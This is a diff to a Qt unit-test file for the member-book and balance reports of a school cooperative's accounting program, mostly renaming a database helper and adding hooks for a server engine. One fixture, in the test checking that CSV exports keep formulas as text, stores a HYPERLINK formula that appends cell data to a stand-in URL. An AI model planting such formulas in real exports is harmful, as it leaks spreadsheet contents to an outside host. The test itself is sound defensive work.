@@ -4,6 +4,7 @@
 #include "reports/ReportExport.h"
 #include "reports/rptBalance.h"
 #include "reports/rptLibroSocios.h"
+#include "support/PgTest.h"
 #include "support/TestEnv.h"
 
 #include <QFile>
@@ -106,6 +107,8 @@ void balanceLedger(const QSqlDatabase &db)
     movement(db, "2026-03-10 10:00:00", "I", QVariant(), 5000, "Sin cuenta"); // no account: left out
     movement(db, "2026-03-12 10:00:00", "e", 11, 50, "Vidrio");          // an expense, as the balances count it
     movement(db, "2026-03-13 10:00:00", "E", 11, -20.5, "Devolución");  // a negative amount
+    if (OnServerRow()) // codes only a file can hold
+        return;
     movement(db, "2026-03-12 10:00:00", "x", 11, 7000, "Código x");      // neither kind: in no balance
     movement(db, "2026-03-12 10:00:00", "I", 20, 9000, "Medio z", {}, {}, "z"); // neither medium: in no balance
 }
@@ -134,6 +137,7 @@ class tst_ListingReports : public QObject
 {
     Q_OBJECT
 private slots:
+    void initTestCase_data() { EngineRows(); }
     void memberBookListsThisYearsFeePayersWithACourse();
     void memberBookExportsToTextAndCsv();
     void csvKeepsFormulasAsText();
@@ -146,7 +150,7 @@ void tst_ListingReports::memberBookListsThisYearsFeePayersWithACourse()
 {
     TestEnv t;
     t.writeIniFor("unused.db", "Cooperadora Escuela 12");
-    t.openNewDb(memberBookLedger);
+    t.openBooks(memberBookLedger);
     // In January, a payment of last December no longer makes a member active.
     t.clock->set(QDateTime(QDate(2026, 1, 15), QTime(8, 0)));
     rptLibroSocios r;
@@ -167,7 +171,7 @@ void tst_ListingReports::memberBookExportsToTextAndCsv()
 {
     TestEnv t;
     t.writeIniFor("unused.db", "Cooperadora Escuela 12");
-    t.openNewDb(memberBookLedger);
+    t.openBooks(memberBookLedger);
     t.clock->set(QDateTime(QDate(2026, 6, 1), QTime(8, 0)));
     const QString txt = t.path("libro.txt");
     t.prompts->expectSaveFile("Texto|*.txt|Planilla (CSV)|*.csv", txt)
@@ -187,7 +191,7 @@ void tst_ListingReports::memberBookExportsToTextAndCsv()
 void tst_ListingReports::csvKeepsFormulasAsText()
 {
     TestEnv t;
-    t.openNewDb([](const QSqlDatabase &db) {
+    t.openBooks([](const QSqlDatabase &db) {
         exec(db, "INSERT INTO Curso (IDCurso, Nombre) VALUES (1, '-1° A')");
         exec(db, "INSERT INTO Socio (IDSocio, Nombre, Alumno, IDCurso) VALUES"
                  " (1, '=HYPERLINK(\"http://x.test/?\"&A1,\"clic\")', '+54 11 5555', 1),"
@@ -210,7 +214,7 @@ void tst_ListingReports::balanceWithDetailsCoversBothWholeDays()
 {
     TestEnv t;
     t.writeIniFor("unused.db", "Cooperadora Escuela 12");
-    t.openNewDb(balanceLedger);
+    t.openBooks(balanceLedger);
     t.clock->set(QDateTime(QDate(2026, 12, 7), QTime(9, 0)));
     answerBalance(*t.prompts, "1/3/2026", "31/03/2026", "SI");
     rptBalance r;
@@ -235,7 +239,7 @@ void tst_ListingReports::balanceWithDetailsCoversBothWholeDays()
 void tst_ListingReports::balanceSummaryAndItsAnswers()
 {
     TestEnv t;
-    t.openNewDb(balanceLedger);
+    t.openBooks(balanceLedger);
     t.clock->set(QDateTime(QDate(2026, 12, 7), QTime(9, 0)));
     // Every movement of the period with both codes is in a total, those booked
     // to an account without a parent under that account.
@@ -283,7 +287,7 @@ void tst_ListingReports::balanceExportsAndCancelledDialogs()
 {
     TestEnv t;
     t.writeIniFor("unused.db", "Cooperadora Escuela 12");
-    t.openNewDb(balanceLedger);
+    t.openBooks(balanceLedger);
     t.clock->set(QDateTime(QDate(2026, 12, 7), QTime(9, 0)));
     const QString txt = t.path("balance.txt");
     t.prompts->expectSaveFile("Texto|*.txt|Planilla (CSV)|*.csv", txt);
